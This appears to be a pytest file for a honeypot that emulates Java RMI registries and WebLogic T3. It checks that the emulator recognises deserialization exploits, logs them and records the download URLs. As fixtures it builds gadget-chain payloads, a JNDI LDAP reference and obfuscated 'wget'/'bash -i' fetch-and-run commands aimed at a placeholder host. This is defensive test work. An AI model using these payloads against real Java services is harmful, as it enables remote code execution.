"""Objects of Java's: to a registry, to WebLogic, and as they are; the commands and addresses in them."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import java
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.java import Java
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse

HELLO = b"JRMI\0\2K"
US = b"\0\x09127.0.1.1\0\0\0\0"


def text(value: bytes) -> bytes:
    return b"\x74" + struct.pack(">H", len(value)) + value


def of_class(name: bytes, inside: bytes) -> bytes:
    """A stream with one object, whose class has no fields of its own."""
    return b"\xac\xed\0\5sr" + struct.pack(">H", len(name)) + name + bytes(8) + b"\3\0\0xp" + inside + b"x"


def call(operation: int, target: int = 0, inside: bytes = b"") -> bytes:
    """A call of RMI's: the block that says of what, and the arguments."""
    block = struct.pack(">qiqhiq", target, 0, 0, 0, operation, 0x44154DC9D4E63BDF)
    return b"P\xac\xed\0\5\x77\x22" + block + inside


def talk(*said: bytes, split: int = 0, bytes_max: int = 32 << 20) -> Table:
    table = Table(Java(visit(port=1099, purse=Purse(bytes_max)))).open()
    for data in said:
        table.say(data, split)
    return table


def attacks(table: Table) -> list[str]:
    return [fact.command for fact in table.facts if isinstance(fact, ExploitRecognised)]


@pytest.mark.parametrize("split", [0, 1])
def test_a_registry_is_listed_and_attacked(split: int) -> None:
    table = talk(HELLO, split=split)
    assert table.sent == b"N\0\x0c198.51.100.7\0\0\x9d\x22"
    table.say(US, split)
    table.sent = b""
    table.say(call(1), split)
    assert table.sent.startswith(b"\x51\xac\xed\0\5\x77\x0f\1")
    assert b"[Ljava.lang.String;" in table.sent
    table.sent = b""
    table.say(call(2, inside=text(b"jmxrmi")), split)
    assert table.sent.endswith(b"\x70"), "nothing by that name"
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)] == [
        "registry: list",
        "registry: lookup jmxrmi",
    ]
    assert not table.kept
    evil = text(b"cd /tmp; wget http://198.51.100.7/x") + text(b"b")
    bind = call(0, inside=text(b"a") + of_class(b"sun.reflect.annotation.AnnotationInvocationHandler", evil)[4:])
    table.say(bind, split)
    table.wait(1)
    assert attacks(table) == ["cd /tmp; wget http://198.51.100.7/x"]
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    assert [keep.data for keep in table.kept] == [bind[1:]]
    table.say(b"\x52", split)
    table.wait(1)
    assert table.sent.endswith(b"\x53")
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.answer("ok", b"x")
    assert table.over


@pytest.mark.parametrize("split", [0, 1])
def test_weblogic(split: int) -> None:
    table = talk(b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n", split=split)
    assert table.sent.startswith(b"HELO:1")
    assert table.sent.endswith(b"\n\n")
    inside = bytes(20) + of_class(b"weblogic.jndi.internal.ForeignOpaqueReference", text(b"ldap://198.51.100.7:1389/a"))
    message = struct.pack(">I", 4 + len(inside)) + inside
    table.say(struct.pack(">I", 24) + bytes(20) + message, split)
    assert attacks(table) == ["ldap://198.51.100.7:1389/a"]
    assert [(wish.download.url, wish.download.tool) for wish in table.wishes] == [
        ("ldap://198.51.100.7:1389/a", "jndi")
    ]
    assert [keep.data for keep in table.kept] == [inside]
    table.answer("ok", b"dn: a\n")
    table.say(message[:-3], split)
    table.end()
    assert [(keep.data, keep.partial) for keep in table.kept][1:] == [(inside[:-3], True)]


@pytest.mark.parametrize("split", [0, 1])
def test_a_bare_stream(split: int) -> None:
    spread = b"bash -c {echo,d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}|{base64,-d}|{bash,-i}"
    stream = of_class(b"java.util.PriorityQueue", text(b"a") + text(spread) + text(spread))
    table = talk(stream, split=split)
    table.wait(1)
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    assert table.sent == b""
    harmless = of_class(b"java.util.HashMap", text(b"curl is a tool"))
    table.say(harmless, split)
    table.tell(HalfClosed(table.at_s))
    assert CommandEntered("object: java.util.HashMap") in table.facts
    assert len(attacks(table)) == 1
    assert [keep.data for keep in table.kept] == [stream, harmless]


def test_limits() -> None:
    assert not talk(b"t3 ".ljust(java.HEAD_BYTES_MAX, b"a")).fault
    assert talk(b"t3 ".ljust(java.HEAD_BYTES_MAX + 1, b"a")).fault
    assert talk(HELLO, struct.pack(">H", java.HEAD_BYTES_MAX)).fault
    assert "message" in talk(b"t3 1\n\n", struct.pack(">I", java.MESSAGE_BYTES_MAX + 1)).fault
    assert not talk(b"t3 1\n\n", struct.pack(">I", java.MESSAGE_BYTES_MAX)).fault
    ping = b"t3 1\n\n" + struct.pack(">I", 4) * java.MESSAGES_MAX
    assert not talk(ping).fault
    assert "messages" in talk(ping, struct.pack(">I", 4)).fault
    assert "holds" in talk(b"\xac\xed\0\5" + bytes(100), bytes_max=100).fault
    assert talk(b"JRMJ").fault
    for past in (0, 1):
        table = talk(b"\xac\xed\0\5".ljust(java.MESSAGE_BYTES_MAX + past, b"\x99"))
        table.end()
        assert [(len(keep.data), keep.partial) for keep in table.kept] == [(java.MESSAGE_BYTES_MAX, bool(past))]
    table = talk(HELLO, US, b"\x99ab")
    table.wait(1)
    assert "no message" in table.fault
    assert [keep.data for keep in table.kept] == [b"\x99ab"]
    urls = b"".join(text(b"ldap://198.51.100.7/%d" % number) for number in range(java.FETCHES_MAX + 1))
    assert len(talk(b"t3 1\n\n", struct.pack(">I", 4 + len(urls)) + urls).wishes) == java.FETCHES_MAX
    table = talk(b"t3 1\n\n")
    for number in range(java.COMMANDS_MAX + 1):
        line = text(b"echo %d | sh" % number)
        table.say(struct.pack(">I", 4 + len(line)) + line)
    assert (
        sum(isinstance(fact, CommandEntered) and fact.line[:5] == "echo " for fact in table.facts) == java.COMMANDS_MAX
    )


def test_whose_conversation_it_is() -> None:
    for first in (HELLO, b"t3 12.2.1\n", b"\xac\xed\0\5sr"):
        claims = [Java.claim(first[:size]) for size in range(1, 7)]
        assert claims == sorted(claims)
        assert claims[-1] == Claim.YES
    assert Java.claim(b"GET / HTTP/1.1") == Claim.NO
